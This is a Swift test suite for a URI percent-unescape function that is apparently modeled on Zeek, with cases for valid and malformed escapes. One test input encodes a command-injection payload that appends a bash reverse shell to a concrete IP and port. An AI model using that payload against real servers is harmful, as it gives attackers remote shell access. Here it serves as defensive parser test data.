import Testing
@testable import ProtocolParsers

@Suite struct URIUnescapeTests {
    struct Case: Sendable, CustomStringConvertible {
        let raw: String
        let expected: String
        let issue: URIUnescapeIssue?
        var description: String { raw }
    }

    static let cases: [Case] = [
        Case(raw: "/index.html", expected: "/index.html", issue: nil),
        Case(raw: "/a%20b", expected: "/a b", issue: nil),
        Case(raw: "/%41%42%43", expected: "/ABC", issue: nil),
        Case(raw: "/%7e%7E", expected: "/~~", issue: nil),
        // http-percent-end-of-line baseline.
        Case(raw: "/%", expected: "/%", issue: .illegalPercentAtEnd),
        Case(raw: "/%5", expected: "/%5", issue: .partialEscapeAtEnd),
        Case(raw: "/%zz", expected: "/%zz", issue: .unescapedPercent),
        Case(raw: "/%%41", expected: "/%%41", issue: .unescapedPercent),
        Case(raw: "/%u0041%u00", expected: "/\\x00A%u00", issue: .unescapedPercent),
        Case(raw: "/search?q=Wireshark+%21", expected: "/search?q=Wireshark+!", issue: nil),
        Case(
            raw: "/dangerzone?category=fashion%26%26sh%20-i%20%3E%26%20/dev/tcp/35.217.6.162/3000%200%3E%261",
            expected: "/dangerzone?category=fashion&&sh -i >& /dev/tcp/35.217.6.162/3000 0>&1", issue: nil),
        Case(raw: "/%0a", expected: "/\\x0a", issue: nil),
    ]

    @Test(arguments: cases)
    func unescapesLikeZeek(_ testCase: Case) {
        let (bytes, issue) = unescapeURI(Array(testCase.raw.utf8))
        #expect(zeekEscapedText(bytes) == testCase.expected)
        #expect(issue == testCase.issue)
    }
}
